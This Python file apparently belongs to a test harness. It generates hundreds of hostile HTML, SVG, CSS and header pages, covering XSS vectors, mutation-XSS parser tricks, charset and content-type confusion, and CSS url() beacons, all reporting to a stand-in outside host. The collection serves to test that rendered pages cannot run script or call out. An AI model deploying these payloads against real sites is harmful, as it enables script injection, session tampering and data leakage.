# ruff: noqa: E501 -- one way, one line
"""Pages that try to act when they are shown again: one table of ways, each page generated from it.

`{run}` stands for a script that gives itself away, `{to}` for an address at a host that must never hear of us.
"""

from __future__ import annotations

from dataclasses import dataclass

RUN = "alert(1);fetch('{to}/ran');new Image().src='{to}/ran';document.title='ran';try{{top.location='{to}/top'}}catch(e){{}}"


@dataclass(frozen=True)
class Page:
    """What the server sends. `more` are other paths of the same server that the page names."""

    name: str
    body: bytes
    content_type: str = "text/html; charset=utf-8"
    headers: tuple[str, ...] = ()
    more: tuple[tuple[str, str, bytes], ...] = ()


SCRIPTS = """
<script>{run}</script>
<SCRIPT>{run}</SCRIPT>
<script type=module>{run}</script>
<script src="{to}/x.js"></script>
<script src="data:text/javascript,{run}"></script>
<script/x>{run}</script>
<script
>{run}</script
>
<<script>{run}//<</script>
<script>{run}
<noscript><script>{run}</script></noscript>
<noscript><p title="</noscript><script>{run}</script>"></noscript>
<template><script>{run}</script></template>
<template shadowrootmode=open><script>{run}</script><img src="{to}/i"></template>
<div><template shadowrootmode=open><style>@import "{to}/s";</style><img src=x onerror="{run}"></template></div>
<svg><script>{run}</script></svg>
<svg><script href="{to}/x.js"/></svg>
<svg><script xlink:href="data:text/javascript,{run}"></script></svg>
<math><script>{run}</script></math>
<table><script>{run}</script></table>
<select><script>{run}</script></select>
<frameset onload="{run}"><frame src="{to}/f"></frameset>
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{to}/p"]}}]}}</script>
<script type="importmap">{{"imports":{{"a":"{to}/m"}}}}</script><script type=module>import "a"</script>
<script>navigator.serviceWorker.register('sw.js')</script>
<script>document.cookie='a=b';{run}</script>
<script>window.open('{to}/popup')</script>
<script>new Worker('data:text/javascript,{run}')</script>
<script>parent.postMessage('ran','*');{run}</script>
<script>print();confirm(1);prompt(1)</script>
<!--[if IE]><script>{run}</script><![endif]-->
<![CDATA[<script>{run}</script>]]>
<?xml-stylesheet type="text/xsl" href="{to}/x.xsl"?><script>{run}</script>
<xml id=x><a><b><script>{run}</script></b></a></xml>
<object type=text/html><script>{run}</script></object>
<isindex type=image src="{to}/i" onerror="{run}">
<comment><img src="</comment><img src=x onerror={run}//">
"""

#: Each of these elements with each of the handlers that browsers run without a person.
ELEMENTS = """
<body {on}>
<img src=x {on}>
<img src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7 {on}>
<svg {on}></svg>
<svg><animate attributeName=x dur=1s {on}></animate></svg>
<video src=x autoplay {on}></video>
<details open {on}>a</details>
<input autofocus {on}>
<iframe srcdoc="a" {on}></iframe>
<style {on}></style>
<link rel=stylesheet href=data:text/css, {on}>
<object data=data:text/plain,a {on}></object>
<embed src=data:text/plain,a {on}>
<marquee {on}>a</marquee>
<x-y style="animation:a 1s" tabindex=1 autofocus {on}>a</x-y><style>@keyframes a{{}}</style>
<math {on}><mi>a</mi></math>
<input type=image src=x {on}>
<audio src=x {on}></audio>
"""
HANDLERS = """
onload onerror onfocus onfocusin ontoggle onanimationstart onbegin onstart onloadstart onpageshow oncanplay onresize
onscroll onhashchange onbeforetoggle onreadystatechange
"""

#: Each address where each of these would take it.
PLACES = """
<a href="{address}" data-click>a</a>
<a href="{address}" target=_top data-click>a</a>
<a href="{address}" target=_blank data-click>a</a>
<a href="{address}" download data-click>a</a>
<map name=m><area href="{address}" shape=default></map><img usemap=#m width=50 height=50 src=x>
<form action="{address}" target=_top><button data-click>a</button></form>
<form><button formaction="{address}" data-click>a</button></form>
<iframe src="{address}"></iframe>
<object data="{address}"></object>
<embed src="{address}">
<img src="{address}">
<svg><a xlink:href="{address}" data-click><text y=20>a</text></a></svg>
<svg><a><animate attributeName=href values="{address}"/><text y=20>a</text></a></svg>
<svg><use href="{address}#x"/></svg>
<svg><image href="{address}"/></svg>
<math href="{address}" data-click><mi>a</mi></math>
<link rel=stylesheet href="{address}">
<portal src="{address}"></portal>
"""
#: The same, where the element is for the whole page.
WHOLE_PAGES = """
<frameset><frame src="{address}"></frameset>
<base href="{address}/"><a href=x data-click>a</a><img src=y>
<meta http-equiv=refresh content="0;url={address}">
<meta http-equiv=refresh content="0; {address}">
<body background="{address}">
"""
ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java&#9;script:{run}",
    "&#1;javascript:{run}",
    "&#106;avascript&colon;{run}",
    "javascript://x.test/%0a{run}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'><image href='{to}/i'/></svg>",
    "blob:{to}/1",
    "{to}/page",
    "\\\\{host}\\page",
    "//{host}/page",
)

LOADS = """
<img src="{to}/1"><img srcset="{to}/2 1x, {to}/3 2x"><img lowsrc="{to}/4" dynsrc="{to}/5">
<picture><source srcset="{to}/1"><img></picture>
<video src="{to}/1" poster="{to}/2" autoplay></video>
<video><source src="{to}/1"><track src="{to}/2" default></video>
<audio src="{to}/1" autoplay></audio>
<bgsound src="{to}/1">
<embed src="{to}/1"><object data="{to}/2"><param name=src value="{to}/3"></object><applet code="{to}/4" archive="{to}/5">
<iframe src="{to}/1" loading=eager></iframe><iframe srcdoc="<img src='{to}/2'>"></iframe>
<fencedframe src="{to}/1"></fencedframe><webview src="{to}/2"></webview><layer src="{to}/3"></layer>
<link rel=preload as=image href="{to}/1"><link rel=preload as=script href="{to}/2"><link rel=modulepreload href="{to}/3">
<link rel=prefetch href="{to}/1"><link rel=prerender href="{to}/2"><link rel=next href="{to}/3">
<link rel=dns-prefetch href="{to}">
<link rel=preconnect href="{to}" crossorigin>
<link rel=icon href="{to}/1"><link rel=apple-touch-icon href="{to}/2"><link rel=mask-icon href="{to}/3">
<link rel=manifest href="{to}/1"><html manifest="{to}/2">
<link rel=import href="{to}/1"><link rel=search href="{to}/2"><link rel=pingback href="{to}/3">
<link rel="stylesheet prefetch dns-prefetch preconnect" href="{to}/1">
<link rel="alternate stylesheet" href="{to}/1" title=a>
<link rel=compression-dictionary href="{to}/1"><link rel=expect href="#a" blocking=render>
<a href="{to}/1" ping="{to}/2" attributionsrc="{to}/3" data-click>a</a>
<img attributionsrc="{to}/1" src=data:image/gif,a>
<table background="{to}/1"><tr background="{to}/2"><td background="{to}/3">a</table>
<input type=image src="{to}/1">
<svg><image href="{to}/1" xlink:href="{to}/2"/><feImage href="{to}/3"/><use href="{to}/4#a"/><cursor href="{to}/5"/></svg>
<svg><filter id=f><feImage href="{to}/1"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>
<svg><rect fill="url({to}/1#a)" stroke="url({to}/2#a)" mask="url({to}/3#a)" clip-path="url({to}/4#a)" width=9 height=9 /></svg>
<svg><style>@import "{to}/1"; rect{{fill:url({to}/2)}}</style><rect width=9 height=9 /></svg>
<svg><foreignObject><img src="{to}/1"><iframe src="{to}/2"></iframe></foreignObject></svg>
<svg><set attributeName=href to="{to}/1"/><image><set attributeName=href to="{to}/2"/></image></svg>
<svg><discard/><handler>{run}</handler><listener event=load handler=#h /></svg>
<math><maction actiontype="statusline#{to}/1" xlink:href="{to}/2">a</maction><mglyph src="{to}/3"/></math>
<meta http-equiv=Link content="<{to}/1>; rel=preload; as=image">
<meta http-equiv=x-dns-prefetch-control content=on><a href="{to}/1">a</a>
<meta http-equiv=Content-Security-Policy content="default-src * 'unsafe-inline'; report-uri {to}/csp"><script>{run}</script>
<meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri {to}/csp"><img src=x>
<meta http-equiv=Set-Cookie content="a=b"><meta http-equiv=Accept-CH content="sec-ch-ua">
<meta name=referrer content=unsafe-url><img src="{to}/1">
<meta http-equiv=origin-trial content=a><meta property=og:image content="{to}/1">
<base href="{to}/"><img src=1><link rel=stylesheet href=2>
<base target=_top><a href="{to}/1" data-click>a</a>
<form id=f action="{to}/1"></form><input form=f type=submit data-click><button form=f>b</button>
<form action="{to}/1" method=post target=_blank><input name=a value=b><input type=submit data-click></form>
<form><input type=image formaction="{to}/1" src=x><input type=submit formaction="{to}/2" formtarget=_top data-click></form>
<dialog open><form method=dialog action="{to}/1"><button data-click>a</button></form></dialog>
<button popovertarget=p data-click>a</button><div id=p popover><img src="{to}/1"></div>
<button commandfor=d command=show-modal data-click>a</button><dialog id=d><img src="{to}/1"></dialog>
<textarea autofocus onfocus="{run}"></textarea><keygen autofocus onfocus="{run}">
<video controls><source src=x onerror="{run}"></video>
<img src="x:{to}/1"><img src="http:/\t/{host}/2"><img src="https:{host}/3"><img src=" {to}/4 ">
<img src="/\\{host}/1"><img src="\\/\\/{host}/2"><a href="/\\{host}/3" data-click>a</a>
<noscript><img src="{to}/1"></noscript><noscript><link rel=stylesheet href="{to}/2"></noscript>
<img data-src="{to}/1"><img src=data:, data-lazy-src="{to}/2" data-srcset="{to}/3 900w">
<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>{run}</script>"></iframe>
<iframe src=about:blank name="{run}"></iframe><iframe src="/account/"></iframe><img src="/sign-in/">
"""

#: Each in a style element, in a style attribute's sheet, in a sheet of its own.
SHEETS = r"""
@import "{to}/1";
@import url({to}/1);
@import url("{to}/1") layer(a) supports(display:block) screen;
@IMPORT/**/'{to}/1';
@\69mport "{to}/1";
@charset "utf-7"; @import "{to}/1";
a{{}}@import "{to}/1";
body{{background:url({to}/1)}}
body{{background:url( "{to}/1" )}}
body{{background:\75rl({to}/1)}}
body{{background:u\72 l({to}/1)}}
body{{background:URL({to}/1)}}
body{{background:src("{to}/1")}}
body{{background:url({to}/1
body{{background:image("{to}/1")}}
body{{background:image-set("{to}/1" 1x, url({to}/2) 2x)}}
body{{background:-webkit-image-set(url({to}/1) 1x)}}
body{{background:-webkit-cross-fade(url({to}/1), url({to}/2), 50%)}}
body{{--a:url({to}/1);background:var(--a)}}
@property --b{{syntax:"<image>";inherits:false;initial-value:url({to}/1)}} body{{background:var(--b)}}
body{{cursor:url({to}/1),auto;list-style-image:url({to}/2);border-image:url({to}/3) 1}}
body{{mask:url({to}/1#a);-webkit-mask-image:url({to}/2);filter:url({to}/3#a);clip-path:url({to}/4#a)}}
body::before{{content:url({to}/1)}} body::after{{content:"a" url({to}/2)}}
body{{shape-outside:url({to}/1);offset-path:url({to}/2#a);-webkit-box-reflect:below 0 url({to}/3)}}
@font-face{{font-family:a;src:url({to}/1)}} body{{font-family:a}}
@font-face{{font-family:a;src:local("a"),url("{to}/1") format("woff2") tech(variations)}} body{{font:9px a}}
@media all{{@supports (a:b) or (display:block){{body{{background:url({to}/1)}}}}}}
@container a{{b{{background:url({to}/1)}}}} @layer x{{body{{background:url({to}/2)}}}}
body{{&:hover{{background:url({to}/1)}} background:url({to}/2)}}
@page{{background:url({to}/1)}} @counter-style a{{system:cyclic;symbols:url({to}/1)}} li{{list-style:a}}
@namespace url({to}/1); @document url({to}/2){{a{{b:c}}}}
body{{width:expression({run})}}
body{{behavior:url({to}/1);-moz-binding:url({to}/2#a)}}
body{{background:url("javascript:{run}")}}
body{{background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'><image href='{to}/1'/></svg>")}}
body{{background:url("data:text/html,<script>{run}</script>")}}
/* </style><script>{run}</script> */
a{{content:"</style><script>{run}</script><img src={to}/1>"}}
a{{content:"</style ><link rel=dns-prefetch href={to}>"}}
a{{b:"\"}} body{{background:url({to}/1)}}
a{{b:'
}} body{{background:url({to}/1)}}
/*/ body{{}} /*/ body{{background:url({to}/1)}} /**/
<!-- body{{background:url({to}/1)}} -->
a{{b:}}}} body{{background:url({to}/1)}}
a[href="]{{"]{{}} body{{background:url({to}/1)}}
input[value^=a]{{background:url({to}/a)}} *{{background:url({to}/b)}}
body{{background:url({to}/1\)x);background:url(/**/{to}/2)}}
body{{animation:x 1s}} @keyframes x{{from{{background:url({to}/1)}}}}
@view-transition{{navigation:auto}} body{{background:url({to}/1)}}
:root{{background:paint(a)}} body{{background:element(#a),url({to}/1)}}
"""

#: What one parser takes for text and another for an element.
MUTATIONS = """
<svg></p><style><a id="</style><img src=x onerror={run}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>
<noscript><p title="</noscript><img src=x onerror={run}>">
<svg><title><style><img src="</style><img src=x onerror={run}>"></title></svg>
<svg><desc><noscript><img alt="</noscript><img src=x onerror={run}>"></desc></svg>
<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror={run}>"></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img src="</style><img src=x onerror={run}>">
<xmp><img alt="</xmp><img src=x onerror={run}>"></xmp>
<noembed><img alt="</noembed><img src=x onerror={run}>"></noembed>
<noframes><img alt="</noframes><img src=x onerror={run}>"></noframes>
<iframe><img alt="</iframe><img src=x onerror={run}>"></iframe>
<title><img alt="</title><img src=x onerror={run}>"></title>
<textarea><img alt="</textarea><img src=x onerror={run}>"></textarea>
<plaintext><img src=x onerror={run}>
<select><style><img src=x onerror={run}></style></select>
<select><option><style>a{{content:"<img src={to}/1>"}}</style></select>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={run}>">
<table><style><img src={to}/1></style><td><svg><style><img src={to}/2></style>
<style><!--</style><img src=x onerror={run}>--></style>
<style><style/><img src=x onerror={run}></style>
<!--><img src=x onerror={run}>-->
<!---><img src=x onerror={run}>-->
<!-- --!><img src=x onerror={run}> -->
<!--<img src="--><img src=x onerror={run}//">
<img alt="`><img src=x onerror={run}//">
<a title="&quot;&gt;&lt;img src=x onerror={run}&gt;">a</a>
<a "=""><img src=x onerror={run}>">a</a>
<p class='"><img src=x onerror={run}>'>a</p>
<img/src="x"/onerror="{run}">
<img src=x:x onerror&#61;{run} onerror={run}>
<div data-a='"><img src=x onerror={run}>' aria-b="<script>{run}</script>">a</div>
<x-y onclick><img src=x onerror={run}></x-y><annotation-xml><font-face><img src=x onerror={run}>
<svg><p><style><g title="</style><img src=x onerror={run}>">
<svg><![CDATA[><img src=x onerror={run}>]]></svg>
<svg><foreignObject><math><mi><style><img src="</style><img src=x onerror={run}>">
<math><mi><svg><mtext><img src=x onerror={run}>
<a><table><a><svg><title><a></table><img src=x onerror={run}>
<p><svg><math><p><img src=x onerror={run}><svg><desc><p><script>{run}</script>
<template><template><img src=x onerror={run}></template></template><template></template><script>{run}</script>
"""

PLAIN_ATTACK = "<html><body><script>{run}</script><img src=x onerror='{run}'><img src='{to}/1'><p>text</p>"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'><script>{run}</script><image href='{to}/1'/></svg>"
XML = "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{to}/x.xsl'?><!DOCTYPE a [<!ENTITY e SYSTEM '{to}/e'>]>"
XHTML = "<html xmlns='http://www.w3.org/1999/xhtml'><body><script>{run}</script><img src='{to}/1'/></body></html>"
TYPES = {
    "image/svg+xml": SVG,
    "image/svg+xml; charset=utf-8": SVG,
    "application/xml": XML + "<a>&e;</a>",
    "text/xml": XML + XHTML,
    "text/xsl": XML + XHTML,
    "application/xhtml+xml": XHTML,
    "application/rss+xml": XML + "<rss><channel><title>" + PLAIN_ATTACK + "</title></channel></rss>",
    "application/mathml+xml": "<math xmlns='http://www.w3.org/1998/Math/MathML'><mi href='javascript:{run}'>a</mi></math>",
    "application/pdf": "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
    + PLAIN_ATTACK,
    "text/plain": PLAIN_ATTACK,
    "text/css": "</style>" + PLAIN_ATTACK,
    "application/json": '{{"a":"' + PLAIN_ATTACK + '"}}',
    "text/javascript": "{run}",
    "application/wasm": "\0asm" + PLAIN_ATTACK,
    "multipart/x-mixed-replace; boundary=b": "--b\r\nContent-Type: text/html\r\n\r\n" + PLAIN_ATTACK + "\r\n--b--",
    "message/rfc822": "Content-Type: text/html\r\n\r\n" + PLAIN_ATTACK,
    "application/x-shockwave-flash": "FWS" + PLAIN_ATTACK,
    "application/octet-stream": PLAIN_ATTACK,
    "text/html;charset=utf-8, image/png": PLAIN_ATTACK,
    "image/png": PLAIN_ATTACK,
    "image/gif": "GIF89a/*" + PLAIN_ATTACK + "*/=1;{run}",
    "image/png, text/html": PLAIN_ATTACK,
    "text/html\t": PLAIN_ATTACK,
    "TEXT/HTML; a=b": PLAIN_ATTACK,
    "video/mp4": PLAIN_ATTACK,
    "font/woff2": PLAIN_ATTACK,
    "text/vtt": "WEBVTT\n\n" + PLAIN_ATTACK,
    "text/html-sandboxed": PLAIN_ATTACK,
    "multipart/related": PLAIN_ATTACK,
    "": PLAIN_ATTACK,
    "*/*": PLAIN_ATTACK,
    "unknown/unknown": PLAIN_ATTACK,
}
#: The charset that the header tells, and the bytes.
CHARSETS = {
    "utf-7": b"+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "": b"<meta charset=utf-7>+ADw-img src=x onerror={run}+AD4-",
    "utf-16le": "<script>{run}</script>".encode("utf-16-le"),
    "utf-16be": "<script>{run}</script>".encode("utf-16-be"),
    "utf-16": "\ufeff<script>{run}</script>".encode("utf-16-le"),
    "utf-32": "<script>{run}</script>".encode("utf-32"),
    "iso-2022-jp": b"<a title='\x1b$B'><img src=x onerror={run}>\x1b(B'>",
    "iso-2022-kr": b"\x1b$)C<a title='\x0e'><img src=x onerror={run}>\x0f'>",
    "hz-gb-2312": b"<a title='~{'><img src=x onerror={run}>~}'>",
    "shift_jis": b"<a title='\x83'><img src=x onerror={run}>'>",
    "gb18030": b"<a title='\x81\x30'><img src=x onerror={run}>'>",
    "cp037": "<script>{run}</script>".encode("cp037"),
    "x-user-defined": b"<a title='\xff'><img src=x onerror={run}>'>",
    "rot13": b"<fpevcg>nyreg(1)</fpevcg><script>{run}</script>",
    "utf-8'": b"<a title='\xc0\xa2\xc0\xbe'><img src=x onerror={run}>",
    "nul": b"<scr\0ipt>{run}</scr\0ipt><img src=x on\0error={run}><script>{run}</script>",
}
HEADERS = """
Refresh: 0; url={to}/1
Refresh: 0; url=javascript:{run}
Link: <{to}/1>; rel=preload; as=image
Link: <{to}/1>; rel=stylesheet
Link: <{to}>; rel=preconnect, <{to}>; rel=dns-prefetch
Link: <{to}/1>; rel=prefetch
Set-Cookie: stolen=1; Path=/
Set-Cookie: sessionid=stolen; Path=/; SameSite=None
Content-Security-Policy: default-src * 'unsafe-inline'; report-uri {to}/csp
Content-Security-Policy-Report-Only: default-src 'none'; report-uri {to}/csp
Report-To: {{"group":"a","max_age":9,"endpoints":[{{"url":"{to}/r"}}]}}
Reporting-Endpoints: default="{to}/r"
NEL: {{"report_to":"a","max_age":9,"success_fraction":1}}
Alt-Svc: h2="{host}"; ma=99999
Speculation-Rules: "{to}/rules.json"
SourceMap: {to}/map
X-Frame-Options: ALLOWALL
Access-Control-Allow-Origin: *
Clear-Site-Data: "*"
Service-Worker-Allowed: /
Content-Location: {to}/1
Content-Disposition: inline; filename="a.html"
X-Content-Type-Options: none
Location: {to}/1
Origin-Agent-Cluster: ?0
Permissions-Policy: *=*
X-SourceMap: {to}/1
Accept-CH: Sec-CH-UA-Full-Version-List
""".strip().splitlines()


def pages(host: str) -> list[Page]:
    """Every page; `host` is host:port of the one who must never hear of us."""
    to = f"http://{host}"
    fills = {"to": to, "host": host, "run": RUN.format(to=to)}

    def filled(template: str) -> str:
        return template.format(**fills)

    found = [Page(f"script-{n}", _page(filled(line))) for n, line in _numbered(SCRIPTS)]
    found += [
        Page(
            f"handler-{handler}", _page("\n".join(e.format(on=f'{handler}="{fills["run"]}"') for e in _lines(ELEMENTS)))
        )
        for handler in HANDLERS.split()
    ]
    found += [
        Page(f"address-{a}-{n}", _page(place.format(address=filled(address))))
        for a, address in enumerate(ADDRESSES)
        for n, place in [*_numbered(WHOLE_PAGES), (len(WHOLE_PAGES), PLACES)]
    ]
    found += [Page(f"load-{n}", _page(filled(line))) for n, line in _numbered(LOADS)]
    found += [page for n, line in _numbered(SHEETS) for page in _sheets(n, filled(line))]
    found += [Page(f"mutation-{n}", _page(filled(line))) for n, line in _numbered(MUTATIONS)]
    found += [Page(f"type-{n}", filled(t).encode(), kind) for n, (kind, t) in enumerate(TYPES.items())]
    found += [
        Page(
            f"charset-{name}", _charset(name, data, fills["run"]), f"text/html; charset={name}" if name else "text/html"
        )
        for name, data in CHARSETS.items()
    ]
    found += [Page(f"header-{n}", _page("<p>text</p>"), headers=(filled(line),)) for n, line in enumerate(HEADERS)]
    return found


def _charset(name: str, data: bytes, run: str) -> bytes:
    for codec in ("utf-16-le", "utf-16-be", "utf-32-le", "cp037", "ascii"):
        data = data.replace("{run}".encode(codec), run.encode(codec))
    return data


def _sheets(number: int, css: str) -> list[Page]:
    link = f"<link rel=stylesheet href=/hostile-{number}.css>"
    attribute = css.partition("{")[2].rpartition("}")[0].replace('"', "&quot;")
    return [
        Page(f"style-{number}", _page(f"<style>{css}</style>")),
        Page(f"styled-{number}", _page(f'<p style="{attribute}">text</p>')),
        Page(f"sheet-{number}", _page(link), more=((f"/hostile-{number}.css", "text/css", css.encode()),)),
    ]


def _page(body: str) -> bytes:
    # No doctype, so that what is odd in old pages is odd here as well.
    return f"<html><head><title>Page</title></head>{body}<p>The page's own text.</p></html>".encode()


def _lines(block: str) -> list[str]:
    return [line for line in block.strip().split("\n") if line]


def _numbered(block: str) -> list[tuple[int, str]]:
    return list(enumerate(_lines(block)))
